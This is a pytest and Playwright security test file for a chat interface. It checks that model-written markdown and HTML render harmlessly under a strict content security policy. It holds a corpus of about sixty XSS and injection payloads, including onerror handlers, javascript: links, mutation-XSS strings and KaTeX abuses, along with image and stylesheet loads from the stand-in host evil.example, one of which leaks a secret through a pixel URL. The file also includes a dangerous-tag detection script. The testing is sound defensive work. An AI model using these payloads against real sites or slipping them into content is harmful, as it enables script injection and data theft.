"""What a model writes is hostile. Conftest's watch makes sure that nothing runs and nothing leaves the origin."""

import re

import pytest
from playwright.sync_api import expect

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay></video><audio src=https://evil.example/y></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](&#x6A;avascript&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:alert(1))",
    "[a](//evil.example/x)",
    "[a](https://ok.example \"x\" onmouseover=alert(1))",
    "[a](https://ok.example/\"onmouseover=alert(1)//)",
    "[a](<https://ok.example/'><img src=x onerror=alert(1)>>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "![i](https://evil.example/pixel.png?secret=1)",
    "![i](javascript:alert(1))",
    "![i](x\" onerror=\"alert(1))",
    "[![i](https://evil.example/p.png)](https://evil.example/)",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\htmlData{x=y}{z}$ $\\htmlStyle{background:url(https://evil.example/x)}{z}$",
    "$\\includegraphics[height=1em]{https://evil.example/x.png}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    "$\\rule{100000em}{100000em}$",
    "\uE0100\uE011 \uE010999\uE011 $a$",
    "[1] <cite onclick=alert(1)>",
    "https://ok.example/<script>alert(1)</script>",
    "<<img src=x onerror=alert(1)>script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "> > > <script>alert(1)</script>",
    "<a id=body><a id=body name=parentNode>",
    "**<img src=x onerror=alert(1)>**",
    "\u202e<script>alert(1)</script>",
    "<img\tsrc=x\nonerror=alert(1)>",
]

ALLOWED = """() => {
    const bad = [];
    for (const element of document.querySelectorAll('#thread .prose *')) {
        if (element.closest('.katex')) continue;
        const tag = element.localName;
        if (/^(script|img|iframe|object|embed|style|link|base|meta|form|svg|video|audio|math|details)$/.test(tag)
            && !element.closest('.code-head')) bad.push(tag);
        for (const { name, value } of element.attributes) {
            if (/^on|^style$|^srcdoc$|^formaction$/.test(name)) bad.push(name);
            if (/^(href|src|action)$/.test(name) && tag !== 'use' && !/^(https?|mailto):/.test(value)) bad.push(value);
        }
    }
    return bad;
}"""


def check(chat):
    assert chat.page.evaluate(ALLOWED) == []
    for link in chat.page.locator("#thread .prose a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_the_corpus_of_attacks_does_nothing(chat):
    chat.conversation("scripted-echo")
    for start in range(0, len(CORPUS), 8):
        chat.ask("\n\n".join(CORPUS[start : start + 8]))
    chat.page.wait_for_timeout(300)
    check(chat)
    chat.page.reload()
    expect(chat.finished.first).to_be_visible()
    chat.page.wait_for_timeout(300)
    check(chat)


def test_attacks_that_stream_in_small_pieces_do_nothing(chat):
    chat.conversation("scripted-echo-itl1")
    chat.ask("\n\n".join(CORPUS))
    check(chat)


@pytest.mark.parametrize("role", ["user", "title", "instructions"])
def test_what_people_write_is_text_too(chat, role):
    attack = "<img src=x onerror=alert(1)>"
    members = {"title": attack} if role == "title" else {}
    if role == "instructions":
        members["systemPrompt"] = attack
    chat.conversation("scripted-len5", **members)
    chat.ask(attack)
    expect(chat.questions).to_contain_text(attack)
    options = chat.search("img")
    expect(options.first).to_be_visible()
    assert chat.page.locator("img[src=x]").count() == 0


def test_remote_images_become_links(chat):
    chat.conversation("scripted-echo")
    answer = chat.ask("Look: ![a cat](https://images.example/cat.png)")
    link = answer.get_by_role("link", name="a cat")
    assert link.get_attribute("href") == "https://images.example/cat.png"
    assert answer.locator("img").count() == 0


def test_raw_html_is_shown_as_it_was_written(chat):
    chat.conversation("scripted-echo")
    answer = chat.ask("Use <b>bold</b> and a<br>break.")
    expect(answer.locator("p")).to_have_text(re.compile(r"Use <b>bold</b> and a\s*break\."))


def test_the_policy_allows_nothing_inline(chat):
    response = chat.page.request.get(chat.url + "/")
    policy = response.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    html = response.text()
    assert re.search(r"<script(?![^>]*\bsrc=)", html) is None
    assert re.search(r"<style|\sstyle=|\son[a-z]+=", html) is None
